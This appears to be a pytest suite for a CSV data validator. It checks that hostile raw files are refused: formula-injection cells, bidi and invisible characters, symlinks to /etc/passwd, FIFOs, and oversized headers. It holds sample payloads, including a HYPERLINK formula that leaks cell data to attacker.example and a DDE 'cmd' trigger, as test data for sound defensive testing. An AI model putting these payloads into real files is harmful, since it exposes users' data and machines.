"""Hostile raw files (issue 21, items 5 and 10): each is tried on a copy of data/raw and refused by name.

- A problem repeated on a huge file is printed for its first rows, then counted in one line, and
  finding it costs no more per row than reading a valid row (item 5).
- No cell of any raw file holds a bidi control or another invisible character, or starts like a
  spreadsheet formula (item 10a).
- A raw file that is a symbolic link, a FIFO or a folder is refused without being read; no message
  quotes a link's target, and every quoted value or header name is cut short (item 10b).

Every test works on ``raw_copy`` (a temporary copy of data/raw); the autouse fixture
``checkout_unchanged`` fails a test that changed anything in the checkout's data, notebooks or
reports.  No test depends on the machine's speed: work is measured by counting calls.
"""

from __future__ import annotations

import csv
import difflib
import io
import os
import shutil
import subprocess
import sys
import unicodedata
from pathlib import Path

import pytest

from helpers.data import raw as raw_module
from helpers.data.ingest import ingest_raw
from helpers.data.raw import MESSAGE_CHARS, Problem, RawDataError, read_tables, validate_raw_dir
from helpers.data.raw_schema import BIDI_CONTROLS, INVISIBLE, SOURCE_HINT_LOOKUPS, TABLES, check_plain_text
from helpers.validate import main as validate_main
from tests.conftest import ROOT, TODAY

SPECS = {spec.file_name: spec for spec in TABLES}
#: The checks of the columns that hold free text (names, notes, quotes, the figure as printed, captions).
FREE_TEXT_CHECKS = {"_text", "_optional_text", "_caption_en", "_caption_zh"}
FREE_TEXT = [(spec.file_name, c.name) for spec in TABLES for c in spec.columns if c.check.__name__ in FREE_TEXT_CHECKS]
EVERY_COLUMN = [(spec.file_name, c.name) for spec in TABLES for c in spec.columns]
WEEKLY_HEADER = "iso_year,iso_week,series,units,source_id,locator"


# --------------------------------------------------------------------------- helpers


def checkout_state() -> dict[str, tuple[int, int]]:
    """Size and modification time of every file the pipeline reads or writes in the checkout."""
    state = {}
    for top in ("data", "notebooks", "reports"):
        for path in sorted((ROOT / top).rglob("*")):
            if path.is_file() or path.is_symlink():
                info = path.lstat()
                state[str(path.relative_to(ROOT))] = (info.st_size, info.st_mtime_ns)
    return state


@pytest.fixture(autouse=True)
def checkout_unchanged():
    """Every test here breaks a copy; the checkout's data, notebooks and reports stay as they were."""
    before = checkout_state()
    yield
    assert checkout_state() == before, "a hostile-input test changed the checkout"


def committed_rows(file_name: str) -> tuple[list[str], list[list[str]]]:
    rows = list(csv.reader(io.StringIO((ROOT / "data" / "raw" / file_name).read_text(encoding="utf-8"))))
    return rows[0], [r for r in rows[1:] if r]


def as_csv(*rows: list[str]) -> str:
    out = io.StringIO()
    csv.writer(out, lineterminator="\n").writerows(rows)
    return out.getvalue()


def problems_in(raw: Path, file_name: str) -> list[str]:
    """This file's problems (breaking one file can also upset the files that refer to it)."""
    return [str(p) for p in validate_raw_dir(raw, today=TODAY)[1] if str(p).startswith(file_name + ":")]


def write_first_row_with(raw: Path, file_name: str, column: str, value: str) -> None:
    """Replace ``file_name`` by its header and its first committed row, with ``column`` set to ``value``."""
    header, rows = committed_rows(file_name)
    row = list(rows[0])
    row[header.index(column)] = value
    (raw / file_name).write_text(as_csv(header, row), encoding="utf-8")


def run_validator(raw: Path, timeout: float = 120) -> subprocess.CompletedProcess:
    """``python -m helpers.validate raw`` as the analyst runs it (a timeout turns a hang into a failure)."""
    return subprocess.run([sys.executable, "-m", "helpers.validate", str(raw)], capture_output=True, text=True,
                          timeout=timeout, cwd=ROOT)


def append_weekly_rows(raw: Path, count: int, source_id="article_ggyjs_2025", units="7200", locator="bench row") -> int:
    """Append ``count`` weekly rows with unique keys (their series registered); return the first row's line.

    ``source_id`` may be a function of the row number (a different misspelling on each row).
    """
    years = range(2001, 2025)  # every year has ISO weeks 1..52
    per_series = len(years) * 52
    series, rows = [], []
    for n in range(count):
        k, rest = divmod(n, per_series)
        if rest == 0:
            series.append(f"hostile_series_{k}")
        sid = source_id(n) if callable(source_id) else source_id
        rows.append(f"{years[rest // 52]},{rest % 52 + 1},hostile_series_{k},{units},{sid},{locator} {n}\n")
    with (raw / "series.csv").open("a", encoding="utf-8") as handle:
        handle.writelines(f"{name},insurance_registrations,generated for a hostile-input test,\n" for name in series)
    first_line = len((raw / "weekly_sales.csv").read_text(encoding="utf-8").splitlines()) + 1
    with (raw / "weekly_sales.csv").open("a", encoding="utf-8") as handle:
        handle.writelines(rows)
    return first_line


# --------------------------------------------------------------------------- item 5: a huge file with a repeated problem

MISSPELT = "article_ggyjs_2052"  # article_ggyjs_2025, digits swapped


def test_a_misspelt_source_on_20000_rows_prints_five_rows_then_one_line_counting_the_rest(raw_copy, capsys):
    first = append_weekly_rows(raw_copy, 20_000, source_id=MISSPELT)
    assert validate_main([str(raw_copy)]) == 1
    out = capsys.readouterr()
    lines = out.err.splitlines()
    assert len(lines) < 50, lines[:60]
    assert lines[0] == "data/raw is not valid: 20,000 problem(s); nothing was run or written."
    shown = [f"  weekly_sales.csv:{first + n}: source_id: '{MISSPELT}' is not registered in sources.csv "
             "(expected a source_id of sources.csv; did you mean article_ggyjs_2025?)" for n in range(5)]
    assert lines[1:6] == shown
    assert lines[6] == (f"  weekly_sales.csv: source_id: ... and 19,995 more of the same problem "
                        f"(a source_id not registered in sources.csv), lines {first + 5:,} to {first + 19_999:,}")
    assert len(out.err) < 5_000


def test_many_kinds_of_problem_on_20000_rows_each_print_five_rows_and_a_count(raw_copy, capsys):
    first = append_weekly_rows(raw_copy, 20_000, source_id=MISSPELT)
    text = (raw_copy / "weekly_sales.csv").read_text(encoding="utf-8").splitlines()
    broken = [line.replace(",7200,", ",72OO,") if n % 2 else line for n, line in enumerate(text[first - 1:])]
    (raw_copy / "weekly_sales.csv").write_text("\n".join([*text[:first - 1], *broken]) + "\n", encoding="utf-8")
    assert validate_main([str(raw_copy)]) == 1
    lines = capsys.readouterr().err.splitlines()
    assert len(lines) < 50, lines[:60]
    assert "  weekly_sales.csv: units: ... and 9,995 more of the same problem (not a count of vehicles), " \
           f"lines {first + 11:,} to {first + 19_999:,}" in lines
    assert "  weekly_sales.csv: source_id: ... and 9,995 more of the same problem " \
           f"(a source_id not registered in sources.csv), lines {first + 10:,} to {first + 19_998:,}" in lines


def test_the_error_raised_to_the_notebooks_is_summarised_too(raw_copy):
    append_weekly_rows(raw_copy, 20_000, source_id=MISSPELT)
    with pytest.raises(RawDataError) as info:
        read_tables(raw_copy, today=TODAY)
    assert len(info.value.problems) == 20_000
    message = str(info.value).splitlines()
    assert len(message) < 50 and "... and 19,995 more of the same problem" in message[6]


def test_output_stays_bounded_with_every_row_a_different_misspelling(raw_copy, capsys):
    append_weekly_rows(raw_copy, 20_000, source_id=lambda n: f"misspelt_source_{n}")
    assert validate_main([str(raw_copy)]) == 1
    lines = capsys.readouterr().err.splitlines()
    assert len(lines) < 50 and "... and 19,995 more of the same problem" in lines[6], lines[:10]


class CountingMatcher(difflib.SequenceMatcher):
    """difflib's matcher, counting the comparisons ``get_close_matches`` makes."""

    made = 0

    def set_seq1(self, a):
        CountingMatcher.made += 1
        super().set_seq1(a)


@pytest.mark.parametrize("misspelling", ["the same on every row", "a different one on every row"])
def test_a_misspelt_source_is_compared_with_the_register_a_bounded_number_of_times(raw_copy, tmp_path, monkeypatch, misspelling):
    """Was: every bad row compared its id with every registered source (459 s for 200,000 rows)."""
    monkeypatch.setattr(difflib, "SequenceMatcher", CountingMatcher)
    source = MISSPELT if misspelling.startswith("the same") else (lambda n: f"article_ggyjs_x{n}")
    comparisons = {}
    for rows in (2_000, 20_000):
        copy = tmp_path / f"raw-{rows}"
        shutil.copytree(raw_copy, copy)
        append_weekly_rows(copy, rows, source_id=source)
        CountingMatcher.made = 0
        assert len(validate_raw_dir(copy, today=TODAY)[1]) == rows
        comparisons[rows] = CountingMatcher.made
    registered = len(committed_rows("sources.csv")[1])
    # one matcher a lookup, then one comparison a registered source
    assert 0 < comparisons[20_000] == comparisons[2_000] <= SOURCE_HINT_LOOKUPS * (registered + 1), comparisons


def calls_to_validate(raw: Path) -> int:
    """Python and C function calls made by one validation of ``raw``: the work done, whatever the machine's speed."""
    count = 0

    def profiler(frame, event, arg):
        nonlocal count
        if event in ("call", "c_call"):
            count += 1

    sys.setprofile(profiler)
    try:
        validate_raw_dir(raw, today=TODAY)
    finally:
        sys.setprofile(None)
    return count


def test_a_bad_row_costs_no_more_work_than_a_valid_one_and_twice_the_rows_twice_the_work(raw_copy, tmp_path):
    calls = {}
    for kind, source in (("valid", "article_ggyjs_2025"), ("misspelt", MISSPELT)):
        for rows in (0, 1_000, 2_000):
            copy = tmp_path / f"{kind}-{rows}"
            shutil.copytree(raw_copy, copy)
            append_weekly_rows(copy, rows, source_id=source)
            calls[kind, rows] = calls_to_validate(copy)
    for kind in ("valid", "misspelt"):
        first_thousand = calls[kind, 1_000] - calls[kind, 0]
        second_thousand = calls[kind, 2_000] - calls[kind, 1_000]
        assert second_thousand <= 1.1 * first_thousand, (kind, first_thousand, second_thousand)
    per_valid_row = (calls["valid", 2_000] - calls["valid", 0]) / 2_000
    per_misspelt_row = (calls["misspelt", 2_000] - calls["misspelt", 0]) / 2_000
    assert per_misspelt_row <= 1.5 * per_valid_row, (per_valid_row, per_misspelt_row)


def test_summaries_never_print_more_than_the_cap():
    many_kinds = [Problem("weekly_sales.csv", n, f"column_{n}", "is wrong (expected right)", f"kind_{n}") for n in range(2, 1_002)]
    lines = raw_module.summarize(many_kinds)
    assert len(lines) == raw_module.SHOWN_LINES + 1
    assert lines[-1] == "... and 800 more problem(s) not listed (at most 200 lines are printed)"


# --------------------------------------------------------------------------- item 10a: formulas and invisible characters

FORMULA = '=HYPERLINK("http://attacker.example/?leak="&A1,"4月份")'


@pytest.mark.parametrize(("file_name", "column"), EVERY_COLUMN, ids=[f"{f}-{c}" for f, c in EVERY_COLUMN])
def test_a_spreadsheet_formula_is_refused_in_every_column_of_every_raw_file(raw_copy, file_name, column):
    write_first_row_with(raw_copy, file_name, column, FORMULA)
    problems = problems_in(raw_copy, file_name)
    assert problems == [f"{file_name}:2: {column}: starts with '=', which a spreadsheet runs as a formula "
                        "(expected plain text: no value may start with =, +, -, @, a tab or a line break unless it is "
                        "a signed number such as -5 or +12%; put words first, e.g. 'about -5%')"], problems


def test_the_free_text_columns_are_the_ones_the_review_names():
    assert {column for _, column in FREE_TEXT} == {
        "title", "publisher", "author", "note", "counts", "locator", "context", "period_as_printed", "as_printed",
        "date_as_printed", "event", "caption_en", "caption_zh"}
    assert len(FREE_TEXT) >= 40  # every figure file, every locator


@pytest.mark.parametrize(
    ("value", "start"),
    [
        ("=1+1", "'='"),
        ("+cmd|' /C calc'!A0", "'+'"),
        ("-2+3", "'-'"),
        ("@SUM(1,2)", "'@'"),
        ("\t=1+1", "a tab"),
        ("\tplain words", "a tab"),
        ("  =1+1", "'='"),  # spaces are trimmed before a spreadsheet sees the value
        ("-5 units", "'-'"),
    ],
    ids=["equals", "plus-dde", "minus", "at", "tab-then-formula", "tab", "spaces-then-formula", "minus-words"],
)
def test_each_formula_trigger_is_refused(raw_copy, value, start):
    write_first_row_with(raw_copy, "orders.csv", "period_as_printed", value)
    (problem,) = problems_in(raw_copy, "orders.csv")
    assert problem.startswith(f"orders.csv:2: period_as_printed: starts with {start}, which a spreadsheet runs as a formula "
                              "(expected plain text"), problem


def test_a_carriage_return_before_a_formula_is_refused(raw_copy):
    header, rows = committed_rows("orders.csv")
    row = list(rows[0])
    row[header.index("context")] = "\r=1+1"
    text = as_csv(header, row).replace(",\r=1+1,", ',"\r=1+1",')  # quoted: the carriage return stays inside the cell
    assert '"\r=1+1"' in text
    (raw_copy / "orders.csv").write_bytes(text.encode("utf-8"))
    (problem,) = problems_in(raw_copy, "orders.csv")
    assert problem.startswith("orders.csv:2: context: starts with a line break (a carriage return in the file), "
                              "which a spreadsheet runs as a formula (expected plain text"), problem


@pytest.mark.parametrize("value", ["-5", "+12%", "-0.5", "-1,200"])
def test_a_signed_number_in_free_text_is_not_a_formula(raw_copy, value):
    write_first_row_with(raw_copy, "orders.csv", "context", value)
    assert problems_in(raw_copy, "orders.csv") == []


def test_a_refused_formula_reaches_no_processed_file(raw_copy, tmp_path):
    write_first_row_with(raw_copy, "events.csv", "event", FORMULA)
    out = tmp_path / "ingest"
    with pytest.raises(RawDataError, match=r"events.csv:2: event: starts with '='"):
        ingest_raw(raw_copy, out, today=TODAY)
    assert not out.exists() or not any(out.iterdir())


@pytest.mark.parametrize("char", list(BIDI_CONTROLS), ids=[f"U+{ord(c):04X}" for c in BIDI_CONTROLS])
def test_each_bidi_control_is_refused(raw_copy, char):
    file_name, column = FREE_TEXT[BIDI_CONTROLS.index(char) * 3 % len(FREE_TEXT)]  # a different file and column for each
    write_first_row_with(raw_copy, file_name, column, f"4月份{char}abc")
    problems = problems_in(raw_copy, file_name)
    assert len(problems) == 1, problems
    assert problems[0] == (f"{file_name}:2: {column}: holds U+{ord(char):04X} ({unicodedata.name(char)}) at character 4, "
                           "an invisible bidi control that makes text display in another order than it is stored "
                           "(expected plain text without bidi controls; delete the character)")
    assert char not in problems[0]


@pytest.mark.parametrize(("file_name", "column"), FREE_TEXT, ids=[f"{f}-{c}" for f, c in FREE_TEXT])
def test_a_right_to_left_override_is_refused_in_every_free_text_column(raw_copy, file_name, column):
    write_first_row_with(raw_copy, file_name, column, "小米\u202e7200 units")
    problems = problems_in(raw_copy, file_name)
    assert len(problems) == 1 and problems[0].startswith(f"{file_name}:2: {column}: holds U+202E (RIGHT-TO-LEFT OVERRIDE)"), problems


@pytest.mark.parametrize(
    "char",
    ["\u200b", "\u200c", "\u200d", "\u2060", "\ufeff", "\u00ad", "\u2028", "\u2029", "\u009b", "\u0085", "\u3164",
     "\ufe0f", "\U000e0041", "\U000e0100", "\u180e", "\ufff9"],
    ids=lambda c: f"U+{ord(c):04X}",
)
def test_other_invisible_and_control_characters_are_refused(raw_copy, char):
    write_first_row_with(raw_copy, "sources.csv", "note", f"found by search{char} used for W16")
    problems = problems_in(raw_copy, "sources.csv")
    assert len(problems) == 1, problems
    assert problems[0].startswith(f"sources.csv:2: note: holds U+{ord(char):04X} (") and "at character 16" in problems[0]
    assert "an invisible or control character that hides or changes text without showing (expected plain text" in problems[0]
    assert char not in problems[0]


def test_every_format_separator_and_control_character_of_unicode_is_refused():
    """Unicode's own categories: format (Cf), line and paragraph separators, controls but tab and newline."""
    missed = [f"U+{cp:04X}" for cp in range(0x110000)
              if (unicodedata.category(chr(cp)) in ("Cf", "Zl", "Zp") or
                  (unicodedata.category(chr(cp)) == "Cc" and chr(cp) not in "\t\n"))
              and not INVISIBLE.match(chr(cp))]
    assert missed == []
    assert all(INVISIBLE.match(c) for c in BIDI_CONTROLS)


def test_ordinary_text_of_the_raw_files_is_plain():
    """Chinese, curly quotes, full-width punctuation and spaces, dashes: what the committed files hold passes."""
    for value in ["锁单率仅35%-40%", "para 3: \u201c今年第16至19周\u201d", "3月份第二个星期", "page: \"6 月 30 日至 7 月 6 日这一周\"",
                  "Xiaomi YU7 launch", "安徽高速小米SU7致命事故(NOA)", "ideographic\u3000space", "en\u2013dash, em\u2014dash", "-5", ""]:
        assert check_plain_text(value) is None


# --------------------------------------------------------------------------- item 10b: links, special files, echoes


SECRET_LINE = "root:x:0:0:SECRET-FIRST-LINE:/root:/bin/bash"


def outside_file(tmp_path: Path) -> Path:
    target = tmp_path / "outside" / "passwd"
    target.parent.mkdir()
    target.write_text(SECRET_LINE + "\nsecond line\n", encoding="utf-8")
    return target


def test_a_raw_file_linked_to_a_file_outside_is_refused_without_echoing_its_content_or_path(raw_copy, tmp_path):
    target = outside_file(tmp_path)
    (raw_copy / "weekly_sales.csv").unlink()
    (raw_copy / "weekly_sales.csv").symlink_to(target)
    problems = problems_in(raw_copy, "weekly_sales.csv")
    assert problems == ["weekly_sales.csv: is a symbolic link; it was not followed or read (expected a regular file in "
                        "data/raw: copy the file in instead of linking it)"], problems
    result = run_validator(raw_copy)
    assert result.returncode == 1 and "weekly_sales.csv: is a symbolic link" in result.stderr
    for leak in ("SECRET", "root:x", str(target), "outside"):
        assert leak not in result.stdout + result.stderr


@pytest.mark.skipif(not Path("/etc/passwd").is_file(), reason="no /etc/passwd on this machine")
@pytest.mark.parametrize("file_name", ["sources.csv", "events.csv", "orders.csv"])
def test_a_raw_file_linked_to_etc_passwd_is_refused_without_echoing_its_first_line(raw_copy, file_name):
    first_line = Path("/etc/passwd").read_text(encoding="utf-8", errors="replace").splitlines()[0]
    (raw_copy / file_name).unlink()
    (raw_copy / file_name).symlink_to("/etc/passwd")
    result = run_validator(raw_copy)
    assert result.returncode == 1 and f"{file_name}: is a symbolic link" in result.stderr
    assert first_line not in result.stderr and "/etc/passwd" not in result.stderr


def test_a_raw_file_linked_to_another_raw_file_is_refused(raw_copy):
    (raw_copy / "weekly_sales_alternatives.csv").unlink()
    (raw_copy / "weekly_sales_alternatives.csv").symlink_to("weekly_sales.csv")
    assert problems_in(raw_copy, "weekly_sales_alternatives.csv") == [
        "weekly_sales_alternatives.csv: is a symbolic link; it was not followed or read (expected a regular file in "
        "data/raw: copy the file in instead of linking it)"]


def test_a_dangling_link_is_a_link_not_a_missing_file(raw_copy, tmp_path):
    (raw_copy / "events.csv").unlink()
    (raw_copy / "events.csv").symlink_to(tmp_path / "nowhere" / "events.csv")
    (problem,) = problems_in(raw_copy, "events.csv")
    assert problem.startswith("events.csv: is a symbolic link; it was not followed or read") and "nowhere" not in problem


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="no FIFOs on this system")
def test_a_fifo_in_place_of_a_raw_file_is_refused_without_hanging(raw_copy):
    (raw_copy / "holidays.csv").unlink()
    os.mkfifo(raw_copy / "holidays.csv")  # nothing ever writes to it: reading it would block forever
    result = run_validator(raw_copy, timeout=120)
    assert result.returncode == 1
    assert "holidays.csv: is a FIFO, not a regular file; it was not read (expected a regular file in data/raw)" in result.stderr


def test_a_folder_in_place_of_a_raw_file_is_refused(raw_copy):
    (raw_copy / "capacity.csv").unlink()
    (raw_copy / "capacity.csv").mkdir()
    (problem,) = problems_in(raw_copy, "capacity.csv")
    assert problem.startswith("capacity.csv: is a folder") and "expected a regular file in data/raw" in problem


def test_an_unknown_file_name_with_a_bidi_control_is_escaped(raw_copy):
    (raw_copy / "weekly\u202evsc.sales.csv").write_text(WEEKLY_HEADER + "\n", encoding="utf-8")
    problems = [str(p) for p in validate_raw_dir(raw_copy, today=TODAY)[1]]
    assert problems == ["'weekly\\u202evsc.sales.csv': is not a known raw table (expected one of: "
                        + ", ".join(SPECS) + ")"], problems


def test_a_header_line_of_junk_is_quoted_short(raw_copy):
    junk = "x" * 10_000
    (raw_copy / "weekly_sales.csv").write_text(f"{WEEKLY_HEADER},{junk}\n", encoding="utf-8")
    (problem,) = problems_in(raw_copy, "weekly_sales.csv")
    assert problem.startswith(f"weekly_sales.csv:1: header: unexpected '{'x' * 40}'... (10,000 characters) "
                              f"(expected exactly: {WEEKLY_HEADER})"), problem[:200]
    assert len(problem) < 300


def test_a_header_of_a_thousand_columns_lists_five(raw_copy):
    (raw_copy / "weekly_sales.csv").write_text(",".join(f"c{n}" for n in range(1_000)) + "\n", encoding="utf-8")
    (problem,) = problems_in(raw_copy, "weekly_sales.csv")
    assert "unexpected c0, c1, c2, c3, c4 and 995 more (expected exactly:" in problem and len(problem) < 400, problem[:400]


def test_a_header_name_with_a_control_character_is_escaped(raw_copy):
    (raw_copy / "weekly_sales.csv").write_text(f"{WEEKLY_HEADER},note\u202e\u009b31m\n", encoding="utf-8")
    (problem,) = problems_in(raw_copy, "weekly_sales.csv")
    assert "unexpected 'note\\u202e\\x9b31m'" in problem and "\u202e" not in problem and "\u009b" not in problem


def test_a_long_bad_value_is_quoted_short(raw_copy):
    write_first_row_with(raw_copy, "weekly_sales.csv", "source_id", "a" * 5_000)
    (problem,) = problems_in(raw_copy, "weekly_sales.csv")
    assert problem.startswith(f"weekly_sales.csv:2: source_id: '{'a' * 100}'... (5,000 characters) is not registered"), problem[:200]
    registered = len(committed_rows("sources.csv")[1])
    assert problem.endswith(f"(expected a source_id of sources.csv; {registered} sources are registered)"), problem[-200:]
    assert len(problem) < 400


def test_a_count_of_five_thousand_digits_is_refused_not_a_crash(raw_copy):
    write_first_row_with(raw_copy, "weekly_sales.csv", "units", "9" * 5_000)
    (problem,) = problems_in(raw_copy, "weekly_sales.csv")
    assert problem == f"weekly_sales.csv:2: units: {'9' * 20}... (5,000 characters) is out of range (expected 0 to 500,000)"


def test_a_long_message_is_cut_in_the_middle_keeping_what_was_expected():
    problem = Problem("orders.csv", 2, "as_printed", "x" * 5_000 + " (expected the figure as printed)")
    text = str(problem)
    assert len(text) < MESSAGE_CHARS + 100 and text.endswith("(expected the figure as printed)") and "characters cut" in text
